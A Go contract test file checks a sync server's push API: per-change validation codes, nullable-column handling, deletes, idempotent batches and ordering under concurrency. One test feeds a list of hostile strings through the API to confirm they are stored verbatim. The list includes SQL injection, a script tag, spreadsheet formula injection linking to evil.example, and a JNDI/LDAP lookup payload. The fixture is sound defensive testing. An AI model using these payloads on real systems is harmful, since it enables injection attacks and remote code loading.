package contracttest

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"
)

// Every per-change rejection code, in one batch with valid changes between
// them: results in order, the valid ones applied, the rest unaffected.
func TestPushValidation(t *testing.T) {
	t.Parallel()
	s := shared(t)
	sname := site(t)
	d, other := s.dev(t, sname, "operator"), s.dev(t, sname, "operator")
	now := time.Now().UnixMilli()
	long := func(n int, c string) string { return strings.Repeat(c, n) }

	type tc struct {
		name   string
		change map[string]any
		code   string // "" = applied
	}
	pr, lc := "production_records", "line_configs"
	var cases []tc
	add := func(name, code string, c map[string]any) { cases = append(cases, tc{name, c, code}) }
	up := func(table string, row map[string]any) map[string]any {
		return d.upsert(table, str(row["id"]), 0, row)
	}
	p := func(kv ...any) map[string]any { return with(prodRow(newID()), kv...) }
	l := func(kv ...any) map[string]any { return with(lineRow(newID()), kv...) }

	add("valid", "", up(pr, p()))
	add("unknown table", "unknown_table", d.upsert("nope", newID(), 0, p()))
	add("sync_conflicts is not pushable", "unknown_table", d.upsert("sync_conflicts", newID(), 0, p()))
	add("unknown column", "unknown_column", up(pr, p("colour", "red")))
	add("quantity text", "invalid_value", up(pr, p("quantity", "five")))
	add("quantity fraction", "invalid_value", up(pr, p("quantity", 1.5)))
	add("quantity negative", "invalid_value", up(pr, p("quantity", -1)))
	add("quantity over 1e9", "invalid_value", up(pr, p("quantity", 1_000_000_001)))
	add("quantity 1e9", "", up(pr, p("quantity", 1_000_000_000)))
	add("quantity 0", "", up(pr, p("quantity", 0)))
	add("created_at text", "invalid_value", up(pr, p("created_at", "2026-11-25T10:00:00Z")))
	add("updated_at fraction", "invalid_value", up(pr, p("updated_at", 1.5)))
	add("line_id a number", "invalid_value", up(pr, p("line_id", 3)))
	add("product_id missing", "missing_value", up(pr, without(p(), "product_id")))
	add("operator_id null", "missing_value", up(pr, p("operator_id", nil)))
	add("quantity missing", "missing_value", up(pr, without(p(), "quantity")))
	add("created_at missing", "missing_value", up(pr, without(p(), "created_at")))
	add("line_id 129", "too_long", up(pr, p("line_id", long(129, "x"))))
	add("line_id 128", "", up(pr, p("line_id", long(128, "x"))))
	add("product_id 128 emoji", "", up(pr, p("product_id", long(128, "🏭"))))
	add("operator_id 129 emoji", "too_long", up(pr, p("operator_id", long(129, "é"))))
	add("recipe 129", "too_long", up(lc, l("recipe", long(129, "r"))))
	add("notes 4000", "", up(lc, l("notes", long(4000, "n"))))
	add("notes 4001", "too_long", up(lc, l("notes", long(4001, "n"))))
	add("temperature text", "invalid_value", up(lc, l("temperature_c", "warm")))
	add("speed fraction", "invalid_value", up(lc, l("speed_rpm", 1.25)))
	add("nullable columns omitted", "", up(lc, without(l(), "target_rate_per_hour", "temperature_c", "speed_rpm", "notes")))
	add("line_configs recipe missing", "missing_value", up(lc, without(l(), "recipe")))
	bad := p()
	bad["id"] = "not-a-uuid"
	add("id not a uuid", "invalid_value", d.upsert(pr, "not-a-uuid", 0, bad))
	add("row id differs", "invalid_value", d.upsert(pr, newID(), 0, p()))
	c := up(pr, p())
	c["hlc"] = "yesterday"
	add("hlc malformed", "invalid_hlc", c)
	c = up(pr, p())
	c["hlc"] = ""
	add("hlc empty", "invalid_hlc", c)
	c = up(pr, p())
	c["hlc"] = hlcOf(now, 0, other.id)
	add("hlc of another device", "invalid_hlc", c)
	c = up(pr, p())
	c["hlc"] = hlcOf(now+10*60*1000, 0, d.id)
	add("hlc 10 min ahead", "clock_ahead", c)
	c = up(pr, p())
	c["hlc"] = hlcOf(now+60*1000, 0, d.id)
	add("hlc 1 min ahead", "", c)
	c = up(pr, p())
	c["op"] = "patch"
	add("op unknown", "invalid_value", c)
	c = up(pr, p())
	c["base_version"] = -1
	add("base_version negative", "invalid_value", c)
	c = up(pr, p())
	delete(c, "row")
	add("upsert without row", "missing_value", c)
	add("last valid", "", up(lc, l()))

	changes := make([]map[string]any, len(cases))
	for i, c := range cases {
		changes[i] = c.change
	}
	res := d.mustPush(t, changes...)
	for i, c := range cases {
		r := res[i]
		if c.code == "" {
			if r["status"] != "applied" {
				t.Errorf("%s: want applied, got %v", c.name, r)
				continue
			}
			if r["table"] != c.change["table"] || r["id"] != c.change["id"] {
				t.Errorf("%s: result %v is not for change %d", c.name, r, i)
			}
			num(t, r["version"])
		} else {
			rejection(t, c.name, r, c.code)
		}
	}
	// Valid changes were stored, rejected ones changed nothing.
	f, _ := d.feed(t)
	for i, c := range cases {
		_, stored := f[str(c.change["table"])+"/"+str(c.change["id"])]
		if stored != (c.code == "") {
			t.Errorf("%s (change %d): stored = %v", c.name, i, stored)
		}
	}
}

// Text within the limits is stored and returned verbatim, whatever it holds.
func TestHostileStrings(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	hostile := []string{
		`Robert'); DROP TABLE rows;--`,
		`' OR '1'='1`,
		`"quoted" \backslash\ 'single' ` + "`tick`",
		`<script>alert("x")</script>&amp;<b>`,
		`=HYPERLINK("http://evil.example","click")`,
		`+1+1`, `-2+3`, `@SUM(A1:A9)`, "\t=1+1",
		`${jndi:ldap://x/a} {{7*7}} %s%n%x %00`,
		"emoji 👩‍🔧🏭🔥 and flags 🇫🇷",
		"\u202Eevil\u202C RTL שלום مرحبا",
		"NUL a\x00b",
		"control \x01\x1f\x7f line\nbreak\r\n",
		"e\u0301 vs é (not normalised)",
		"\uFEFFbom and zero\u200Bwidth",
		"  padded  ",
		"null", "undefined", "true", "0",
	}
	var changes []map[string]any
	for _, h := range hostile {
		row := with(prodRow(newID()), "line_id", h, "product_id", h, "operator_id", h)
		changes = append(changes, d.upsert("production_records", str(row["id"]), 0, row))
		lrow := with(lineRow(newID()), "recipe", h, "notes", strings.Repeat(h, 3))
		changes = append(changes, d.upsert("line_configs", str(lrow["id"]), 0, lrow))
	}
	res := d.mustPush(t, changes...)
	for i, r := range res {
		if r["status"] != "applied" {
			t.Errorf("change %d (%q): %v", i, hostile[i/2], r)
		}
	}
	f, _ := d.feed(t)
	for i, c := range changes {
		pulled := f[str(c["table"])+"/"+str(c["id"])]
		if pulled == nil {
			t.Errorf("change %d not pulled", i)
			continue
		}
		row, _ := pulled["row"].(map[string]any)
		sent := c["row"].(map[string]any)
		for _, k := range []string{"line_id", "product_id", "operator_id", "recipe", "notes"} {
			if v, ok := sent[k]; ok && row[k] != v {
				t.Errorf("%s: sent %q, pulled %q", k, v, row[k])
			}
		}
	}
}

// A nullable column left out keeps the server's value; an explicit null
// clears it. An older client never wipes a column it does not know.
func TestNullableOmittedKeepsValue(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	id := newID()
	row := with(lineRow(id), "notes", "keep me", "speed_rpm", 900, "temperature_c", 30.25)
	v := num(t, d.mustPush(t, d.upsert("line_configs", id, 0, row))[0]["version"])

	partial := with(without(row, "notes", "speed_rpm"), "recipe", "R2")
	res := d.mustPush(t, d.upsert("line_configs", id, v, partial))[0]
	wantStatus(t, "upsert without notes", res, "applied")
	v = num(t, res["version"])
	got, _ := d.rowOf(t, "line_configs", id)
	sameFields(t, "after omitting notes and speed_rpm", got, map[string]any{"recipe": "R2", "notes": "keep me", "speed_rpm": 900, "temperature_c": 30.25})

	res = d.mustPush(t, d.upsert("line_configs", id, v, with(row, "notes", nil, "temperature_c", nil)))[0]
	wantStatus(t, "upsert with explicit nulls", res, "applied")
	got, _ = d.rowOf(t, "line_configs", id)
	sameFields(t, "after explicit nulls", got, map[string]any{"notes": nil, "temperature_c": nil, "speed_rpm": 900})
	hasKeys(t, "row", got, "notes", "temperature_c")
}

// op "delete" sets deleted_at to the row's deleted_at, or to the server
// time when null; deleted rows carry deleted_at on pull.
func TestDelete(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	ids := []string{newID(), newID(), newID()}
	var creates []map[string]any
	for _, id := range ids {
		creates = append(creates, d.upsert("production_records", id, 0, prodRow(id)))
	}
	res := d.mustPush(t, creates...)

	r := d.push(t,
		d.del("production_records", ids[0], num(t, res[0]["version"]), nil),
		d.del("production_records", ids[1], num(t, res[1]["version"]), with(prodRow(ids[1]), "deleted_at", 1764000000000)),
		d.del("production_records", ids[2], num(t, res[2]["version"]), with(prodRow(ids[2]), "deleted_at", nil)),
	)
	del := results(t, r, 3)
	serverTime := num(t, r.Obj()["server_time"])
	for i, x := range del {
		wantStatus(t, fmt.Sprint("delete ", i), x, "applied")
	}
	// A delete of a row the server never saw, carrying the whole row.
	fresh := newID()
	wantStatus(t, "delete of an unseen row", d.mustPush(t, d.del("production_records", fresh, 0, with(prodRow(fresh), "deleted_at", 1764000000001)))[0], "applied")

	f, _ := d.feed(t)
	want := []any{serverTime, 1764000000000, serverTime}
	for i, id := range ids {
		row, _ := f["production_records/"+id]["row"].(map[string]any)
		if !same(row["deleted_at"], want[i]) {
			t.Errorf("delete %d: deleted_at %v, want %v", i, row["deleted_at"], want[i])
		}
		// The tombstone keeps the row's columns.
		sameFields(t, "tombstone", row, map[string]any{"line_id": "L3", "quantity": 12})
	}
	row, _ := f["production_records/"+fresh]["row"].(map[string]any)
	if !same(row["deleted_at"], 1764000000001) {
		t.Errorf("unseen row's tombstone: %v", row)
	}
}

// Bookkeeping columns sent in a row are ignored.
func TestBookkeepingIgnored(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	id := newID()
	c := d.upsert("production_records", id, 0, with(prodRow(id), "synced_at", 5, "server_updated_at", 7, "version", 999, "hlc", "bogus"))
	r := d.push(t, c)
	res := results(t, r, 1)[0]
	wantStatus(t, "push with bookkeeping", res, "applied")
	v := num(t, res["version"])
	if v == 999 {
		t.Errorf("the pushed version was taken")
	}
	row, ch := d.rowOf(t, "production_records", id)
	if num(t, ch["version"]) != v || ch["hlc"] != c["hlc"] {
		t.Errorf("pulled version %v hlc %v, want %d %v", ch["version"], ch["hlc"], v, c["hlc"])
	}
	if !same(row["server_updated_at"], r.Obj()["server_time"]) {
		t.Errorf("server_updated_at %v, want the push's server_time %v", row["server_updated_at"], r.Obj()["server_time"])
	}
	lacksKeys(t, "pulled row", row, "synced_at", "version", "hlc")
}

// Request-level problems fail the whole request; nothing is written.
func TestPushRequestLevel(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	id := newID()
	valid := []any{d.upsert("production_records", id, 0, prodRow(id))}
	cases := []struct {
		name     string
		body     any
		statuses []int
	}{
		{"batch_id not a uuid", map[string]any{"batch_id": "batch-1", "changes": valid}, []int{422}},
		{"batch_id a number", map[string]any{"batch_id": 12, "changes": valid}, []int{400, 422}},
		{"batch_id missing", map[string]any{"changes": valid}, []int{400, 422}},
		{"changes a string", map[string]any{"batch_id": newID(), "changes": "x"}, []int{400, 422}},
		{"changes an object", map[string]any{"batch_id": newID(), "changes": map[string]any{"0": valid[0]}}, []int{400, 422}},
		{"changes null", map[string]any{"batch_id": newID(), "changes": nil}, []int{400, 422}},
		{"changes missing", map[string]any{"batch_id": newID()}, []int{400, 422}},
		{"body a list", valid, []int{400, 422}},
		{"body not json", "batch_id=1", []int{400}},
		{"empty body", "", []int{400, 422}},
	}
	for _, c := range cases {
		r := d.call(t, "POST", "/v1/push", c.body)
		ok := false
		for _, st := range c.statuses {
			ok = ok || r.Status == st
		}
		if !ok {
			t.Errorf("%s: want %v, got %v", c.name, c.statuses, r)
			continue
		}
		wantError(t, r, r.Status, "")
	}
	// More than 1000 changes → 413 (even of valid changes); 1000 are fine.
	many := make([]map[string]any, 1001)
	for i := range many {
		rid := newID()
		many[i] = d.upsert("production_records", rid, 0, prodRow(rid))
	}
	wantError(t, d.call(t, "POST", "/v1/push", map[string]any{"batch_id": newID(), "changes": many}), 413, "")
	f, cursor := d.feed(t)
	if len(f) != 0 || cursor != 0 {
		t.Errorf("a refused request wrote %d rows (cursor %d)", len(f), cursor)
	}
	res := d.mustPush(t, many[:1000]...)
	for i, r := range res {
		if r["status"] != "applied" {
			t.Fatalf("change %d of 1000: %v", i, r)
		}
	}
	// An empty list is a batch too: results [].
	r := d.push(t)
	if r.Status != 200 || !bytes.Contains(r.Raw, []byte(`"results":[]`)) {
		t.Errorf("empty batch: %v", r)
	}
}

// Results are in the order of changes; version is the row's version after
// the batch, the same number pull reports.
func TestPushVersionsMatchPull(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	var changes []map[string]any
	var ids []string
	for i := 0; i < 20; i++ {
		id := newID()
		ids = append(ids, id)
		table, row := "production_records", prodRow(id)
		if i%3 == 0 {
			table, row = "line_configs", lineRow(id)
		}
		changes = append(changes, d.upsert(table, id, 0, row))
	}
	// The same row twice in one batch: both results name the version after the batch.
	again := with(prodRow(ids[1]), "quantity", 77)
	changes = append(changes, d.upsert("production_records", ids[1], 0, again))
	res := d.mustPush(t, changes...)
	f, _ := d.feed(t)
	for i, r := range res {
		c := changes[i]
		if r["id"] != c["id"] || r["table"] != c["table"] {
			t.Fatalf("result %d is for %v/%v, change %d is %v/%v", i, r["table"], r["id"], i, c["table"], c["id"])
		}
		wantStatus(t, fmt.Sprint("change ", i), r, "applied")
		pulled := f[str(c["table"])+"/"+str(c["id"])]
		if pulled == nil || !same(pulled["version"], r["version"]) {
			t.Errorf("change %d: push version %v, pull version %v", i, r["version"], pulled["version"])
		}
	}
	// Each accepted write takes the next number of the site's sequence.
	if _, cursor := d.feed(t); cursor != int64(len(changes)) {
		t.Errorf("site sequence %d after %d writes in a fresh site", cursor, len(changes))
	}
	row, _ := f["production_records/"+ids[1]]["row"].(map[string]any)
	if !same(row["quantity"], 77) {
		t.Errorf("the later change of a row in one batch did not win: %v", row)
	}
}

// A repeated batch_id returns the stored response byte for byte, server_time
// included, whatever the repeat contains, and applies nothing.
func TestPushIdempotent(t *testing.T) {
	t.Parallel()
	s := shared(t)
	sname := site(t)
	devs := s.enroll(t, sname, "operator", 2)
	d, other := devs[0], devs[1]
	batch := newID()
	id1, id2 := newID(), newID()
	first := d.call(t, "POST", "/v1/push", map[string]any{"batch_id": batch, "changes": []any{
		d.upsert("production_records", id1, 0, prodRow(id1)),
		d.upsert("production_records", newID(), 0, prodRow(newID())), // rejected: row id differs
	}})
	results(t, first, 2)
	if first.Obj()["batch_id"] != batch {
		t.Errorf("batch_id %v, want %s", first.Obj()["batch_id"], batch)
	}
	_, cursor := d.feed(t)
	time.Sleep(20 * time.Millisecond) // a new answer would carry another server_time

	repeats := []struct {
		name string
		body any
	}{
		{"same content", nil},
		{"other content", map[string]any{"batch_id": batch, "changes": []any{d.upsert("production_records", id2, 0, prodRow(id2))}}},
		{"no changes", map[string]any{"batch_id": batch, "changes": []any{}}},
		{"changes not a list", map[string]any{"batch_id": batch, "changes": "x"}},
	}
	for _, rp := range repeats {
		body := rp.body
		if body == nil {
			body = map[string]any{"batch_id": batch, "changes": []any{
				d.upsert("production_records", id1, 0, prodRow(id1)),
			}}
		}
		r := d.call(t, "POST", "/v1/push", body)
		if r.Status != 200 || !bytes.Equal(r.Raw, first.Raw) {
			t.Errorf("repeat (%s):\n got %v\nwant %s", rp.name, r, first.Raw)
		}
		// gzip-compressed answers carry the same bytes.
		r = d.call(t, "POST", "/v1/push", body, hdr("Accept-Encoding", "gzip"))
		if r.Status != 200 || !bytes.Equal(r.Raw, first.Raw) {
			t.Errorf("repeat (%s, gzip):\n got %v\nwant %s", rp.name, r, first.Raw)
		}
	}
	f, c2 := d.feed(t)
	if c2 != cursor || f["production_records/"+id2] != nil {
		t.Errorf("a repeat applied something: cursor %d → %d", cursor, c2)
	}
	// The batch id is the device's: another device's batch of that id is new.
	r := other.call(t, "POST", "/v1/push", map[string]any{"batch_id": batch, "changes": []any{other.upsert("production_records", id2, 0, prodRow(id2))}})
	res := results(t, r, 1)
	wantStatus(t, "another device's batch with the same id", res[0], "applied")
}

// A device never conflicts with itself (a lost acknowledgement followed by
// a later edit), under both policies.
func TestNoSelfConflict(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	pid, lid := newID(), newID()
	d.mustPush(t, d.upsert("production_records", pid, 0, prodRow(pid)), d.upsert("line_configs", lid, 0, lineRow(lid)))
	// The acknowledgement was lost: the device still has base_version 0.
	res := d.mustPush(t,
		d.upsert("production_records", pid, 0, with(prodRow(pid), "quantity", 13)),
		d.upsert("line_configs", lid, 0, with(lineRow(lid), "recipe", "R9", "notes", "changed")),
	)
	for i, r := range res {
		wantStatus(t, fmt.Sprint("self re-push ", i), r, "applied")
		lacksKeys(t, "self re-push", r, "conflict_id")
	}
	// Even an older HLC of its own is applied.
	c := d.upsert("production_records", pid, 0, with(prodRow(pid), "quantity", 14))
	c["hlc"] = hlcOf(time.Now().UnixMilli()-3_600_000, 0, d.id)
	wantStatus(t, "self re-push with an older hlc", d.mustPush(t, c)[0], "applied")
	f, _ := d.feed(t)
	for k, ch := range f {
		if strings.HasPrefix(k, "sync_conflicts/") {
			t.Errorf("a self conflict was recorded: %v", ch)
		}
	}
	row, _ := f["production_records/"+pid]["row"].(map[string]any)
	if !same(row["quantity"], 14) {
		t.Errorf("quantity %v, want 14", row["quantity"])
	}
}

// The same batch sent several times at once: every answer is the one
// stored response, and the batch is applied once.
func TestPushIdempotentConcurrent(t *testing.T) {
	t.Parallel()
	s := shared(t)
	d := s.dev(t, site(t), "operator")
	var changes []map[string]any
	for i := 0; i < 20; i++ {
		id := newID()
		changes = append(changes, d.upsert("production_records", id, 0, prodRow(id)))
	}
	body := map[string]any{"batch_id": newID(), "changes": changes}
	const n = 6
	replies := make(chan reply, n)
	for i := 0; i < n; i++ {
		go func() { replies <- d.call(t, "POST", "/v1/push", body) }()
	}
	var first []byte
	for i := 0; i < n; i++ {
		r := <-replies
		results(t, r, len(changes))
		if first == nil {
			first = r.Raw
		} else if !bytes.Equal(r.Raw, first) {
			t.Errorf("concurrent repeats answered differently:\n%s\n%s", first, r.Raw)
		}
	}
	if _, cursor := d.feed(t); cursor != int64(len(changes)) {
		t.Errorf("site sequence %d after one batch of %d sent %d times", cursor, len(changes), n)
	}
}

// Following the cursor while several devices push at once never misses a
// write: sequence numbers are given in commit order.
func TestNoGapUnderConcurrency(t *testing.T) {
	t.Parallel()
	s := shared(t)
	sname := site(t)
	devs := s.enroll(t, sname, "operator", 5)
	reader, writers := devs[0], devs[1:]
	const batches, per = 25, 4
	written := make(chan string, len(writers)*batches*per)
	done := make(chan struct{})
	errs := make(chan error, len(writers))
	for _, w := range writers {
		go func() {
			for b := 0; b < batches; b++ {
				var changes []map[string]any
				for i := 0; i < per; i++ {
					id := newID()
					changes = append(changes, w.upsert("production_records", id, 0, prodRow(id)))
				}
				r := w.push(t, changes...)
				if r.Status != 200 {
					errs <- fmt.Errorf("push: %v", r)
					return
				}
				for _, c := range changes {
					written <- str(c["id"])
				}
			}
			errs <- nil
		}()
	}
	go func() {
		for range writers {
			if err := <-errs; err != nil {
				t.Error(err)
			}
		}
		close(done)
	}()
	seen := map[string]bool{}
	cursor := int64(0)
	follow := func() {
		r := reader.pull(t, fmt.Sprintf("cursor=%d&limit=7", cursor))
		if r.Status != 200 {
			t.Fatalf("pull: %v", r)
		}
		m := r.Obj()
		for _, c := range list(t, m["changes"]) {
			if v := num(t, c["version"]); v <= cursor {
				t.Fatalf("version %d at or below the cursor %d", v, cursor)
			}
			seen[str(c["id"])] = true
		}
		cursor = num(t, m["cursor"])
	}
	for running := true; running; {
		select {
		case <-done:
			running = false
		default:
			follow()
		}
	}
	for i := 0; i < 1000; i++ {
		before := cursor
		follow()
		if cursor == before {
			break
		}
	}
	close(written)
	missed := 0
	for id := range written {
		if !seen[id] {
			missed++
		}
	}
	if missed > 0 {
		t.Errorf("following the cursor missed %d of %d writes", missed, len(writers)*batches*per)
	}
}
